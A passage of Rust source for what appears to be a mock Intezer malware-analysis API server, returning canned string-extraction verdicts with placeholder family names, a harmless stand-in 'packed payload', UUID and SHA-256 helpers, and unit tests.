                "software_type": "malware",
                "tags": ["registry"]
            },
            {
                "string_value": "ExamplePacker stub v2",
                "software_type": "packer",
                "tags": [],
                "families": [family_reference("ExamplePacker")]
            },
            common
        ]),
        (Outcome::Malicious, _) => json!([c2_domain, mutex, common]),
        (Outcome::Suspicious, _) => json!([
            {
                "string_value": "ExampleLoader stage two",
                "software_type": "malware",
                "tags": [],
                "families": [family_reference("ExampleLoader")]
            },
            common
        ]),
        (Outcome::Trusted, _) => json!([
            common,
            { "string_value": "KERNEL32.dll", "software_type": "common", "tags": [] }
        ]),
    };
    Reply::json(
        200,
        json!({ "status": "succeeded", "result": { "strings": entries } }),
    )
}

/// Bytes of the payload the static extraction of a malicious file finds: a
/// stand-in for a packed PE, `MZ` and one line naming the parent file. The
/// bytes depend only on the parent's SHA-256, so the payload's SHA-256 is
/// stable and a downloader can check it.
fn extracted_payload(parent_sha256: &str) -> Bytes {
    Bytes::from(format!(
        "MZ intezer-dynamic simulator: packed payload extracted from {parent_sha256}\n"
    ))
}

// === helpers ===

/// A UUID-shaped id hashed from `seed`, with the version 4 and variant bits
/// set so that it reads like the random UUIDs Intezer uses.
fn uuid_like(seed: &str) -> String {
    let mut bytes: [u8; 16] = Sha256::digest(seed.as_bytes())[..16]
        .try_into()
        .expect("a SHA-256 digest has 32 bytes");
    bytes[6] = (bytes[6] & 0x0f) | 0x40;
    bytes[8] = (bytes[8] & 0x3f) | 0x80;
    let hex = hex::encode(bytes);
    format!(
        "{}-{}-{}-{}-{}",
        &hex[0..8],
        &hex[8..12],
        &hex[12..16],
        &hex[16..20],
        &hex[20..32]
    )
}

fn parse_sha256(text: &str) -> Option<[u8; 32]> {
    if text.len() != 64 {
        return None;
    }
    let mut bytes = [0u8; 32];
    hex::decode_to_slice(text, &mut bytes).ok()?;
    Some(bytes)
}

/// File type from the magic bytes, with Intezer's names.
fn sniff_file_type(bytes: &[u8]) -> &'static str {
    if bytes.starts_with(b"MZ") {
        "pe"
    } else if bytes.starts_with(b"\x7fELF") {
        "elf"
    } else {
        "non_executable"
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn verdict_follows_first_byte_modulo_four() {
        let cases = [
            ("00", DefaultVerdict::KnownMalicious),
            ("05", DefaultVerdict::KnownSuspicious),
            ("fe", DefaultVerdict::KnownTrusted),
            ("0300", DefaultVerdict::UnknownThenMalicious),
            ("0301", DefaultVerdict::UnknownThenSuspicious),
        ];
        for (prefix, expected) in cases {
            let sha256 = format!("{prefix:0<64}");
            assert_eq!(
                DefaultVerdict::for_sha256(&sha256),
                Some(expected),
                "{sha256}"
            );
        }
    }

    #[test]
    fn verdict_needs_64_hex_digits() {
        assert_eq!(DefaultVerdict::for_sha256("00"), None);
        assert_eq!(DefaultVerdict::for_sha256(&"g".repeat(64)), None);
        assert_eq!(
            DefaultVerdict::for_sha256(&"A".repeat(64)),
            Some(DefaultVerdict::KnownTrusted)
        );
    }

    #[test]
    fn debug_output_hides_the_api_key() {
        let options = DefaultOptions {
            api_key: Some("secret-key".to_string()),
            ..DefaultOptions::default()
        };
        let shown = format!("{options:?}");
        assert!(!shown.contains("secret-key"), "{shown}");
        assert!(shown.contains("<redacted>"), "{shown}");
    }

    #[test]
    fn uuid_like_is_stable_and_version_4() {
        let id = uuid_like("analysis:x:0");
        assert_eq!(id, uuid_like("analysis:x:0"));
        assert_ne!(id, uuid_like("analysis:x:1"));
        assert_eq!(id.len(), 36);
        assert_eq!(&id[14..15], "4");
        assert!(matches!(&id[19..20], "8" | "9" | "a" | "b"), "{id}");
    }
}
